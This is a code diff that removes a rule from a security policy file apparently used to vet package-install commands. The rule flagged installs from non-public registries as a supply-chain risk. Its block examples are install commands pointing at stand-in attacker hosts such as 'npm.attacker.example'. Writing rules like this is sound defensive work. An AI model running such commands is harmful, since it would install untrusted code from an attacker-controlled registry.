@@ -75,51 +75,6 @@ export const registries: readonly AnyRule[] = [
     },
   }),
   rule({
-    id: "packages/registry-once",
-    title: "Installing from another registry",
-    severity: "medium",
-    decision: "warn",
-    owasp: ["ASI04"],
-    attack: "T1195.001",
-    why: "The same name in another registry can be another package.",
-    instead: REVIEW,
-    on: run([...JAVASCRIPT, ...PYTHON, "gem", "cargo"]),
-    match: (action) => {
-      const from = option(
-        action.call,
-        "--registry",
-        "--index-url",
-        "-i",
-        "--default-index",
-        "--extra-index-url",
-        "--find-links",
-        "-f",
-        "--source",
-        "-s",
-        "--index",
-        "-c",
-        "--channel",
-      );
-      return from !== null && /^(?:https?|git|file|sparse\+https?):/.test(from) && !PUBLIC.test(from)
-        ? `installs from ${from}`
-        : null;
-    },
-    examples: {
-      block: [
-        "npm install x --registry http://npm.attacker.example",
-        "pip install --index-url http://pypi.attacker.example/simple x",
-        "gem install x --source http://attacker.example",
-        "uv pip install --index-url https://x.example/simple y",
-      ],
-      allow: [
-        "npm install x --registry https://registry.npmjs.org",
-        "pip install -i https://pypi.org/simple x",
-        "npm ci",
-        "gem install rake",
-      ],
-    },
-  }),
-  rule({
     id: "packages/mixed-index",
     title: "Adding a second index beside the public one",
     severity: "high",
